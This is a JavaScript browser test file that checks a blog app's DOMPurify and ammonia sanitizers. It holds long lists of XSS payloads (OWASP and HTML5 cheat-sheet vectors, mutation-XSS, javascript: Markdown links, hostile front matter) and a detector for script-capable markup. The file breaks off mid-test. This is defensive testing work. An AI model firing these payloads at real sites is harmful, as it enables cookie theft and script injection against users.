// Hostile posts in real Chromium: bodies are sanitized in the browser (DOMPurify, see
// src/core/body/dom.rs), so this is where a vector would fire. The posts are written
// into a temp folder at test time — the HTML5 Security Cheatsheet vectors of
// ../shared/xss and the OWASP filter evasion cheat sheet's (HTML and Markdown bodies),
// Markdown link forms with script URLs,
// mutation-XSS namespace-confusion cases and hostile front matter — indexed with the
// CLI and loaded through `?src=` from another origin. Every alert/prompt/confirm is
// rewritten to set `window.__xss = 1` (and the real ones are trapped too); every page
// is scanned for event-handler attributes, script URLs and active elements, and the
// links inside the body are hovered and clicked. The same posts then go through every
// other path that renders: bundled articles, files opened locally, an embed widget.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { start, DIST, ROOT, indexedCopy, sourceServer, waitForTotal } from './helpers.mjs';

const H5SC = path.join(ROOT, '..', 'shared', 'xss', 'h5sc-vectors.txt');
const have = fs.existsSync(H5SC);
const skip = have ? false : 'no ../shared/xss here';

/** The cheat sheet's vectors, one per `<div id="N">` (as tests/testsuite/sanitize.rs reads them). */
function h5scVectors() {
  const text = fs.readFileSync(H5SC, 'utf8');
  const out = [];
  const re = /<div id="(\d+)">/g;
  const starts = [...text.matchAll(re)];
  starts.forEach((m, i) => {
    const from = m.index + m[0].length;
    const to = i + 1 < starts.length ? starts[i + 1].index : text.length;
    let v = text.slice(from, to).trimEnd().replace(/undefined$/, '').trimEnd();
    if (v.endsWith('</div>')) v = v.slice(0, -6);
    out.push({ id: m[1], vector: v });
  });
  return out;
}

/** Script that runs must leave a trace: the dialog functions set the flag instead. */
const armed = (v) => v.replace(/\b(alert|prompt|confirm)\b/g, '(window.__xss=1)');

// Mutation XSS: markup that parses differently once serialized and parsed again, most
// of it namespace confusion between HTML, SVG and MathML (DOMPurify's and ammonia's
// past bypasses among them), plus raw-text elements and comments.
const MXSS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/><a><text>x</text></a></svg>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template><style></template><img src=x onerror=alert(1)></style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<select><img src=x onerror=alert(1)></select>',
  '<select><template><style></select><img src=x onerror=alert(1)></style></template>',
  '<table><style><img src=x onerror=alert(1)></style></table>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p>--!><img src=x onerror=alert(1)></p>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href=" &#14; javascript:alert(1)">control</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<img src="x" srcset="javascript:alert(1) 1x">',
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//"><a href="x">relative after base</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<p id="bs-main" class="bs-card" style="background:url(javascript:alert(1))">imitating the app</p>',
  '<plaintext><img src=x onerror=alert(1)>',
];

// The OWASP XSS Filter Evasion Cheat Sheet's vectors (its HTML-context ones, written
// out here; remote script URLs point at a host that never resolves).
const OWASP = [
  `<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<SCRIPT/SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.invalid/xss.js?< B >`,
  `<SCRIPT SRC=//xss.invalid/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.invalid/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="http://xss.invalid/xss.css">`,
  `<STYLE>@import'http://xss.invalid/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.invalid/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.invalid/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>`,
  `<SCRIPT a=">" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<SCRIPT a=\`>\` SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<SCRIPT a=">'>" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.invalid/xss.js"></SCRIPT>`,
  `<A HREF="http://66.102.7.147/">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<A HREF="http://www.google.com./">XSS</A>`,
  `<A HREF="//www.google.com/">XSS</A>`,
  `<img src="x" onerror="alert(1)"/><form><button formaction=javascript:alert(1)>X</button></form>`,
  `<a href="jav&#x0D;ascript:alert(1)">cr</a><a href="&#0000106avascript:alert(1)">padded</a>`,
  `<svg><script xlink:href=data:,alert(1)></script></svg>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
];

// Markdown's own ways to write a link or an image.
const MD_LINKS = [
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](  javascript:alert(1) "title")',
  '[click](jav&#x61;script:alert(1))',
  '[click](java%0ascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](javascript:alert(1))',
  '![img](data:text/html,<script>alert(1)</script>)',
  '![img](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<JaVaScRiPt:alert(1)>',
  '[ref][x]\n\n[x]: javascript:alert(1)',
  '[ref][y]\n\n[y]: vbscript:msgbox(1) "title"',
  '![ref][z]\n\n[z]: data:image/svg+xml,<svg/onload=alert(1)>',
  '[Collapsed][]\n\n[collapsed]: javascript:alert(1)',
  '[shortcut]\n\n[shortcut]: <javascript:alert(1)>',
  '[a](#" onmouseover="alert(1))',
  '[a](\tjavascript:alert(1))',
  '[![nested](x.png)](javascript:alert(1))',
  'Footnote[^1].\n\n[^1]: [inner](javascript:alert(1))',
  '<a href="javascript:alert(1)">raw html in markdown</a>',
  '*emphasis <img src=x onerror=alert(1)> inside*',
  '`code <img src=x onerror=alert(1)>` then <b onclick=alert(1)>bold</b>',
];

/** `vectors` cut into posts of `per` vectors each. */
function batches(vectors, per) {
  const out = [];
  for (let i = 0; i < vectors.length; i += per) out.push(vectors.slice(i, i + per));
  return out;
}

const frontMatter = (title) => `---\ntitle: ${JSON.stringify(title)}\ndate: 2024-01-01\n---\n`;
const HOSTILE = '"><img src=x onerror=alert(1)><script>alert(1)</script>';

/** Writes the hostile posts; returns their file names by kind. */
function writePosts(dir) {
  const files = { html: [], md: [] };
  const write = (name, text) => { fs.writeFileSync(path.join(dir, name), text); (name.endsWith('.html') ? files.html : files.md).push(name); };
  const h5sc = h5scVectors().map((v) => armed(v.vector));
  assert.ok(h5sc.length >= 130, `the whole h5sc corpus (${h5sc.length})`);
  batches(h5sc, 30).forEach((b, i) => {
    write(`h5sc-${i}.html`, frontMatter(`h5sc html ${i}`) + b.map((v) => `<div class="v">${v}</div>`).join('\n'));
    // Markdown: each vector a paragraph of its own, and one inline in a list item.
    write(`h5sc-${i}.md`, frontMatter(`h5sc markdown ${i}`) + `# Vectors ${i}\n\n`
      + b.map((v, j) => (j % 2 ? `- item ${v}` : `Text before ${v} and after.`)).join('\n\n'));
  });
  batches(OWASP.map(armed), 30).forEach((b, i) => {
    write(`owasp-${i}.html`, frontMatter(`owasp html ${i}`) + `<p>OWASP vectors, part ${i}.</p>\n` + b.map((v) => `<div class="v">${v}</div>`).join('\n'));
    write(`owasp-${i}.md`, frontMatter(`owasp markdown ${i}`) + `# OWASP ${i}\n\n` + b.join('\n\n'));
  });
  const mxss = MXSS.map(armed);
  batches(mxss, 25).forEach((b, i) => {
    write(`mxss-${i}.html`, frontMatter(`mxss html ${i}`) + b.map((v) => `<div class="v">${v}</div>`).join('\n'));
    write(`mxss-${i}.md`, frontMatter(`mxss markdown ${i}`) + `# mXSS ${i}\n\n` + b.join('\n\n'));
  });
  write('md-links.md', frontMatter('markdown links') + '# Links\n\n' + MD_LINKS.map(armed).join('\n\n'));
  // Every front-matter field the pages show, hostile (the body is harmless).
  const fm = {
    title: `T${HOSTILE}`,
    author: `A${HOSTILE}`,
    // A name with '/' in it (its link encodes it as %2F) must still find its page.
    categories: ['C"><img src=x onerror=alert(1)>', '<svg onload=alert(1)></script>'],
    tags: [`G${HOSTILE}`, 'javascript:alert(1)'],
    thumbnail: 'javascript:alert(1)',
    cover: 'data:text/html,<script>alert(1)</script>',
    excerpt: `<img src=x onerror=alert(1)><b>bold</b> tail &amp; <script>alert(1)</script>text`,
  };
  const yaml = Object.entries(fm).map(([k, v]) => `${k}: ${JSON.stringify(Array.isArray(v) ? v.map(armed) : armed(v))}`).join('\n');
  write('front-matter.md', `---\n${yaml}\ndate: 2024-01-02\n---\nA harmless body.\n`);
  // A benign post: what the browser sanitizer must keep (ids, TOC, resolved URLs, rel).
  write('rich.md', `${frontMatter('rich post')}# Intro

## 安装 步骤

Relative [link](other.md) and ![image](img/a.png "t") and [abs](https://example.com/x).

### Über {#custom}

| a | b |
|:--|--:|
| 1 | 2 |

- [x] done

Note[^1].

[^1]: The footnote.

\`\`\`rust
fn main() { println!("<script>"); }
\`\`\`
`);
  return files;
}

let site; let src; let posts; let tmp;
before(async () => {
  if (!have) return;
  site = await start(DIST);
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'bs-xss-'));
  posts = { files: writePosts(tmp) };
  const indexed = await indexedCopy(tmp);
  posts.dir = indexed.dir;
  posts.catalog = indexed.catalog;
  src = await sourceServer(indexed.dir);
});
after(async () => {
  await src?.close();
  await site?.close();
  for (const d of [tmp, posts?.dir]) if (d) fs.rmSync(d, { recursive: true, force: true });
});

const withSrc = (route, ...urls) => {
  const base = urls[0] && typeof urls[0] === 'object' ? urls.shift().url : site.url;
  const q = urls.filter(Boolean).map((u) => `src=${encodeURIComponent(u)}`).join('&');
  return q ? `${base}${route}?${q}` : `${base}${route}`;
};

/** A page that records dialogs and any call of the dialog functions. */
async function hostilePage(on = site) {
  const page = await on.page();
  page.dialogs = [];
  page.on('dialog', (d) => { page.dialogs.push(`${d.type()}: ${d.message()}`); d.dismiss().catch(() => {}); });
  await page.addInitScript(() => {
    for (const f of ['alert', 'prompt', 'confirm', 'print']) {
      const orig = window[f];
      window[f] = function trapped(...args) { window.__xss = 1; return orig.apply(this, args); };
    }
    // Clicked links must not leave for other sites (this machine is offline): those
    // clicks are cancelled. javascript:, data: and the like are NOT, so one that
    // survived sanitizing would run.
    document.addEventListener('click', (e) => {
      const a = e.target.closest?.('a[href]');
      if (!a) return;
      const href = a.getAttribute('href').trim();
      if (/^(https?:|mailto:|tel:|\/\/)/i.test(href) && a.origin !== location.origin) e.preventDefault();
      else if (/^(mailto|tel):/i.test(href)) e.preventDefault();
    }, true);
  });
  // Images of the hostile posts 404 on purpose (src=x, src=/); console noise only.
  page.allow.push(/Failed to load resource/);
  return page;
}

/** Everything script-capable in the document (and in `.bs-body`: active elements). */
async function findings(page) {
  return page.evaluate(() => {
    const bad = [];
    const urlAttrs = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'cite', 'ping', 'dynsrc', 'lowsrc', 'codebase']);
    const describe = (el) => el.outerHTML.slice(0, 160);
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        const name = a.name.toLowerCase();
        if (name.startsWith('on')) bad.push(`event handler ${name}: ${describe(el)}`);
        if (name === 'srcdoc') bad.push(`srcdoc: ${describe(el)}`);
        if (urlAttrs.has(name)) {
          const v = a.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
          if (/^(javascript|vbscript|livescript):|^data:text\/html/.test(v) || /(^|,)\s*(javascript|vbscript):/.test(v)) bad.push(`script URL in ${name}: ${describe(el)}`);
        }
      }
    }
    const body = document.querySelector('.bs-body');
    if (body) {
      const active = 'script, iframe, frame, frameset, object, embed, applet, base, meta, link, style, form, svg, math, template, noscript, portal, [style]';
      for (const el of body.querySelectorAll(active)) bad.push(`active element in the body: ${describe(el)}`);
    }
    if (window.__xss) bad.push('window.__xss was set');
    return bad;
  });
}

/** Opens `route` with the hostile source; asserts nothing fired or survived. */
async function check(page, route, srcUrl, waitFor, on = null) {
  await page.goto(on ? withSrc(route, on, srcUrl) : withSrc(route, srcUrl));
  await page.waitForSelector(waitFor, { state: 'attached' });
  // Lazy images load (and fail) only near the viewport: scroll through the page.
  await page.evaluate(async () => {
    for (let y = 0; y < document.body.scrollHeight; y += 600) { window.scrollTo(0, y); await new Promise((r) => setTimeout(r, 20)); }
  });
  await page.waitForTimeout(300);
  assert.deepEqual(await findings(page), [], `${route}: nothing script-capable`);
  assert.deepEqual(page.dialogs, [], `${route}: no dialog`);
}

/** Hovers and clicks every link in the body (see `hostilePage` for the links that
 *  are not followed); an app link that navigates is followed back. */
async function poke(page, route, srcUrl, on = null) {
  const here = on ? withSrc(route, on, srcUrl) : withSrc(route, srcUrl);
  const n = await page.locator('.bs-body a').count();
  for (let i = 0; i < n; i++) {
    const link = page.locator('.bs-body a').nth(i);
    if (!(await link.isVisible().catch(() => false))) continue;
    await link.hover({ timeout: 2000 }).catch(() => {});
    await link.click({ timeout: 2000 }).catch(() => {});
    await page.waitForTimeout(30);
    const flagged = await page.evaluate(() => window.__xss || 0).catch(() => 0);
    assert.equal(flagged, 0, `${route}: link ${i} ran script`);
    assert.deepEqual(page.dialogs, [], `${route}: link ${i} opened a dialog`);
    if (new URL(page.url()).pathname !== new URL(here).pathname) {
      await page.goto(here);
      await page.waitForSelector('.bs-body');
    }
  }
}

const article = (slug) => `article/${encodeURIComponent(slug)}`;

test('the hostile posts are all in the catalog the CLI wrote', { skip }, () => {
  const n = posts.files.html.length + posts.files.md.length;
  assert.equal(posts.catalog.articles.length, n, JSON.stringify(posts.catalog.errors));
  assert.ok(n >= 14);
});

test('h5sc, mXSS and Markdown-link vectors in HTML and Markdown bodies: nothing fires, nothing script-capable survives', { skip }, async () => {
  const catalogUrl = src.url('catalog.json');
  const page = await hostilePage();
  await page.goto(withSrc('', catalogUrl));
  await waitForTotal(page, posts.catalog.articles.length);
  assert.deepEqual(await findings(page), [], 'the list');
  for (const a of posts.catalog.articles) {
    if (a.path === 'rich.md' || a.path === 'front-matter.md') continue; // tests of their own
    const route = article(a.slug);
    await check(page, route, catalogUrl, '.bs-body');
    const shown = await page.locator('.bs-body').evaluate((b) => b.innerHTML);
    assert.ok(shown.length > 20, `${a.path}: the body shows: ${shown}`);
    await poke(page, route, catalogUrl);
    assert.deepEqual(await findings(page), [], `${route} after clicking its links`);
  }
  assert.deepEqual(page.problems, []);
});

test('hostile front matter is shown as text on every page, from a catalog and as a single post parsed in the browser', { skip }, async () => {
  const a = posts.catalog.articles.find((x) => x.path === 'front-matter.md');
  // The CLI's reading (native, ammonia): tags and script content dropped from the
  // excerpt, entities decoded; script URLs as images refused.
  assert.equal(a.excerpt, 'bold tail & text');
  assert.ok(a.thumbnail == null && a.cover == null, 'no image from javascript:/data: URLs');
  const page = await hostilePage();
  for (const srcUrl of [src.url('catalog.json'), src.url('front-matter.md')]) {
    const single = srcUrl.endsWith('.md');
    const how = single ? 'parsed in the browser' : 'from the catalog';
    await page.goto(withSrc('', srcUrl));
    await waitForTotal(page, single ? 1 : posts.catalog.articles.length);
    const card = page.locator('main article.bs-card').filter({ has: page.locator(`h2 a[href*="/article/${encodeURIComponent(a.slug)}"]`) });
    assert.equal(await card.count(), 1, how);
    // The same text from the browser (DOMPurify) as from the CLI (ammonia).
    assert.equal(await card.locator('.bs-excerpt').textContent(), a.excerpt, how);
    assert.equal(await card.locator('h2 a').textContent(), a.title, how);
    assert.equal(await card.locator('img').count(), 0, `${how}: no thumbnail from a javascript: URL`);
    assert.deepEqual(await findings(page), [], `list ${how}`);
    await check(page, article(a.slug), srcUrl, '.bs-body');
    assert.equal(await page.locator('h1').textContent(), a.title, how);
    // Every page the hostile values appear on: author, tags, categories (also in the
    // sidebar of each page), the indexes, the archive, search results.
    const routes = await page.$$eval('article.bs-article a.bs-author, article.bs-article .bs-tags a, article.bs-article nav[aria-label="Category path"] a',
      (as) => as.map((x) => new URL(x.href).pathname.slice(1)));
    assert.ok(routes.length >= 5, `${how}: author, 2 tags, 2 categories (${routes})`);
    for (const route of [...routes, 'tags', 'authors', 'archive']) {
      await check(page, route, srcUrl, 'main .bs-list, main .bs-archive, main .bs-page-sub, main .bs-notfound, main h1');
      assert.equal(await page.locator('main .bs-notfound').count(), 0, `${route} ${how}`);
    }
    await page.goto(`${site.url}?q=tail&src=${encodeURIComponent(srcUrl)}`);
    await page.waitForSelector('main .bs-result-count[data-complete="true"]');
    assert.ok(await page.locator('main article.bs-card').count() >= 1, `${how}: found by its excerpt`);
    assert.deepEqual(await findings(page), [], `search ${how}`);
  }
  assert.deepEqual(page.dialogs, []);
  assert.deepEqual(page.problems, []);
});

test('what the browser sanitizer keeps: heading ids and contents, rel on links, lazy images, URLs resolved against the post', { skip }, async () => {
  const a = posts.catalog.articles.find((x) => x.path === 'rich.md');
  const page = await hostilePage();
  // The post's image must load: one that fails is replaced by a stand-in (reading.rs).
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
  await page.route('**/img/a.png', (r) => r.fulfill({ contentType: 'image/png', body: png }));
  await page.goto(withSrc(article(a.slug), src.url('catalog.json')));
  await page.waitForSelector('.bs-body h2');
  const ids = await page.$$eval('.bs-body :is(h1,h2,h3)', (hs) => hs.map((h) => h.id));
  assert.deepEqual(ids, ['intro', '安装-步骤', 'custom']);
  assert.deepEqual(await page.$$eval('nav[aria-label="Contents"] a', (as) => as.map((x) => x.textContent)), ['Intro', '安装 步骤', 'Über']);
  const links = await page.$$eval('.bs-body a', (as) => as.map((x) => [x.getAttribute('href'), x.getAttribute('rel')]));
  assert.deepEqual(links.slice(0, 2), [[src.url('other.md'), 'noopener noreferrer'], ['https://example.com/x', 'noopener noreferrer']]);
  const img = await page.$eval('.bs-body img', (i) => ({ src: i.getAttribute('src'), alt: i.alt, title: i.title, loading: i.getAttribute('loading'), ref: i.getAttribute('referrerpolicy') }));
  assert.deepEqual(img, { src: src.url('img/a.png'), alt: 'image', title: 't', loading: 'lazy', ref: 'no-referrer' });
  assert.equal(await page.locator('.bs-body th[align="left"]').count(), 1);
  assert.equal(await page.locator('.bs-body input[type="checkbox"][disabled][checked]').count(), 1);
  assert.equal(await page.locator('.bs-body .footnote-definition').count(), 1);
  assert.equal(await page.locator('.bs-body code.language-rust').textContent(), 'fn main() { println!("<script>"); }\n');
  assert.deepEqual(await findings(page), []);
  assert.deepEqual(page.problems, []);
  // The checks themselves: unsanitized markup put into the body trips each of them.
  // (An image that loads: a failing one is replaced by its stand-in, handler and all.)
  // (The page's CSP refuses the inline handler and style: a second line of defence
  // the checks must not rely on, so they look at the markup itself.)
  page.allow.push(/CSP violation|Content Security Policy/);
  await page.locator('.bs-body').evaluate((b) => {
    b.insertAdjacentHTML('beforeend', '<img src="img/a.png" onerror="(window.__xss=1)"><a href=" JaVa\tScRiPt:x">j</a><iframe></iframe><p style="x">s</p>');
    window.__xss = 1;
  });
  const caught = (await findings(page)).join('\n');
  for (const what of ['event handler onerror', 'script URL in href', '<iframe', 'style="x"', 'window.__xss was set']) {
    assert.ok(caught.includes(what), `the checker misses ${what}: ${caught}`);
  }
});

// ---------- the other paths that render: bundled articles, opened files, embed widgets

/** The body-bearing posts (each has vectors in its body). */
const vectorPosts = () => posts.catalog.articles.filter((a) => a.path !== 'rich.md');

test('bundled: the hostile posts as a site\'s own articles (no ?src=), every article page', { skip }, async () => {
  // The built app with the hostile posts as its articles/ (as bundle-articles.sh lays
  // them out: posts + catalog.json written by the CLI), served like GitHub Pages.
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bs-xss-bundled-'));
  fs.cpSync(DIST, dir, { recursive: true, filter: (f) => !/^articles([/\\]|$)/.test(path.relative(DIST, f)) });
  fs.cpSync(posts.dir, path.join(dir, 'articles'), { recursive: true });
  const bundled = await start(dir);
  try {
    const page = await hostilePage(bundled);
    await page.goto(bundled.url);
    await waitForTotal(page, posts.catalog.articles.length);
    assert.deepEqual(await findings(page), [], 'the list');
    for (const a of vectorPosts()) {
      const route = article(a.slug);
      await check(page, route, null, '.bs-body', bundled);
      await poke(page, route, null, bundled);
      assert.deepEqual(await findings(page), [], `${route} after clicking its links`);
    }
    assert.deepEqual(page.dialogs, []);
    assert.deepEqual(page.problems, []);
  } finally {
    await bundled.close();
